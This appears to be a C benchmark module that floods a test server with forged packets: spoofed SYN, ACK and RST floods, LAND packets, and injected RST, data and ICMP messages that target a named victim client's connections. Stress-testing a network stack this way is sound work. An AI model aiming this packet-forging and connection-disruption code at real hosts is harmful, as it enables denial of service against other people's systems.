/*
 * flood: an attacker for benchmarks: packets with forged sources at a given
 * rate, towards a server on one of our ports. Not part of the product: `make
 * bench-flood` builds an instance's programs with it.
 */
#include <errno.h>
#include <string.h>

#include "../../../secondary/net/tcp_priv.h"
#include "../../../secondary/svc/svc.h"
#include "../../../secondary/svc/wget/url.h"

#define OFF(m)		offsetof(struct flood_conf, m)
#define BURST		64u	/* packets of a tick, at most */
#define LATE_US		2000u	/* what was due before that is left out */

enum flood_kind { FLOOD_SYN, FLOOD_ACK, FLOOD_RST, FLOOD_DATA, FLOOD_ICMP,
    FLOOD_LAND };

static const char *const kinds[] = { "syn", "ack", "rst", "data", "icmp",
    "land", NULL };

struct flood_conf {
	char server[OPT_STRLEN], victim[OPT_STRLEN];
	int64_t rate, kind;
};

struct flood_state {
	uint64_t none;		/* nobody answers whom we do not know */
};

struct flood_priv {
	struct tuple to;	/* the server, and who we are */
	uint8_t victim[4];	/* whose connections are attacked */
	uint64_t rng, from_us, sent;
};

enum flood_counter { FL_SENT };

static const struct opt flood_opts[] = {
	{ .name = "server", .type = OPT_STRING, .offset = OFF(server),
	    .max = OPT_STRLEN - 1, .help = "tcp://ADDRESS:PORT." },
	{ .name = "victim", .type = OPT_STRING, .offset = OFF(victim),
	    .max = OPT_STRLEN - 1, .help = "tcp://ADDRESS of a client that "
	    "the server serves: rst, data and icmp are about it." },
	{ .name = "rate", .type = OPT_INT, .offset = OFF(rate), .def = 300000,
	    .min = 1, .max = 10000000, .help = "Packets a second." },
	{ .name = "kind", .type = OPT_ENUM, .offset = OFF(kind),
	    .words = kinds, .help = "What is sent." },
	{ .name = NULL }
};

static const struct optgroup flood_group = {
	.name = "flood",
	.help = "Settings of the attacker.",
	.size = sizeof(struct flood_conf),
	.opts = flood_opts,
};

static const struct svc_counter flood_counters[] = {
	[FL_SENT] = { "sent", "packets sent" },
	{ NULL, NULL }
};

const struct svc_desc flood_desc = {
	.name = "flood",
	.help = "Attacks a server with forged packets.",
	.opts = &flood_group,
	.counters = flood_counters,
	.state_size = sizeof(struct flood_state),
	.client = 1,
};

static uint32_t
rnd(struct flood_priv *p)
{
	p->rng = p->rng * 6364136223846793005u + 1442695040888963407u;
	return (uint32_t)(p->rng >> 32);
}

static int
flood_start(struct svc *s, uint64_t now_us)
{
	const struct flood_conf *conf = s->conf;
	struct flood_priv *p = s->priv;
	struct net_addr server, victim;
	const char *path, *why = NULL;

	if (wget_url(conf->server, "tcp://", "", &server, &path, &why) < 0 ||
	    wget_url(conf->victim, "tcp://", "", &victim, &path, &why) < 0) {
		s->io->log(s->ioarg, why);
		return -EINVAL;
	}
	p->to.family = 4;
	memcpy(p->to.raddr, (uint8_t[]){ [10] = 0xff, 0xff }, 12);
	memcpy(p->to.raddr + 12, server.addr, 4);
	p->to.rport_be = __builtin_bswap16(server.port);
	memcpy(p->victim, victim.addr, 4);
	p->rng = s->seed | 1;
	p->from_us = now_us;
	return ip_route(s->net, &p->to);
}

/* The tuple of the next packet. */
static void
forge(struct flood_priv *p, enum flood_kind kind, struct tuple *t)
{
	*t = p->to;
	if (kind == FLOOD_SYN || kind == FLOOD_ACK) {
		put_be32(t->laddr + 12, 20u << 24 | (rnd(p) & 0xffffff));
		t->lport_be = (uint16_t)rnd(p);
	} else if (kind == FLOOD_LAND) {
		memcpy(t->laddr + 12, t->raddr + 12, 4);
		t->lport_be = t->rport_be;
	} else {
		memcpy(t->laddr + 12, p->victim, 4);
		put_be16((uint8_t *)&t->lport_be, 1024 + rnd(p) % 63976);
	}
}

/* RFC 792: "too big", or "port unreachable", about a segment of the server's
 * to the victim, the number guessed. */
static uint32_t
icmp(struct flood_priv *p, const struct tuple *t, uint8_t *m)
{
	uint8_t *q = m + 8;
	uint16_t sum;

	memset(m, 0, 36);
	m[0] = 3;
	m[1] = rnd(p) & 1 ? 4 : 3;
	put_be16(m + 6, 576);
	q[0] = 0x45;
	put_be16(q + 2, 1500);
	q[8] = 64;
	q[9] = 6;
	memcpy(q + 12, t->raddr + 12, 4);
	memcpy(q + 16, t->laddr + 12, 4);
	memcpy(q + 20, &t->rport_be, 2);
	memcpy(q + 22, &t->lport_be, 2);
	put_be32(q + 24, rnd(p));
	sum = (uint16_t)~csum_fold(csum_add(0, m, 36));
	memcpy(m + 2, &sum, 2);
	return 36;
}

static bool
send_one(struct svc *s, enum flood_kind kind)
{
	static const uint8_t flags[] = { TH_SYN, TH_ACK, TH_RST,
	    TH_ACK | TH_PSH, 0, TH_SYN };
	struct flood_priv *p = s->priv;
	struct pkt *k;
	struct tuple t;
	uint8_t *h;

	if (pktq_full(net_out(s->net)) || (k = frame_get(s->net)) == NULL)
		return false;
	forge(p, kind, &t);
	h = pkt_data(k);
	if (kind == FLOOD_ICMP) {
		k->len = icmp(p, &t, h);
		k->l4_len = 8;
		ip_output(s->net, k, &t, 1, 8, 0);
		return true;
	}
	tcp_out_header(h, &t, rnd(p), rnd(p), flags[kind]);
	put_be16(h + 14, rnd(p));
	k->len = k->l4_len = TCP_HLEN;
	if (kind == FLOOD_DATA) {
		h[TCP_HLEN] = 'x';
		k->len++;
	}
	ip_output(s->net, k, &t, 6, TCP_HLEN, 0);
	return true;
}

static uint64_t
flood_tick(struct svc *s, uint64_t now_us)
{
	const struct flood_conf *conf = s->conf;
	struct flood_priv *p = s->priv;
	uint64_t rate = (uint64_t)conf->rate, due, lost;
	uint32_t i;

	due = (now_us - p->from_us) * rate / 1000000;
	if (due > p->sent + BURST + LATE_US * rate / 1000000) {
		/* this process did not run: no burst afterwards */
		lost = due - p->sent - BURST;
		p->from_us += lost * 1000000 / rate;
		due -= lost;
	}
	for (i = 0; i < BURST && p->sent < due; i++) {
		if (!send_one(s, (enum flood_kind)conf->kind))
			break;
		p->sent++;
		svc_count(s, FL_SENT, 1);
	}
	return now_us + 20;
}

static void
flood_event(struct svc *s, struct conn *c, uint32_t events)
{
	const struct flood_state *st = conn_state(c);

	if ((events & CONN_GONE) == 0 && st->none == 0)
		conn_abort(s->net, c);
}

const struct service flood_service = {
	.desc = &flood_desc,
	.priv_size = sizeof(struct flood_priv),
	.client = 1,
	.start = flood_start,
	.event = flood_event,
	.tick = flood_tick,
};
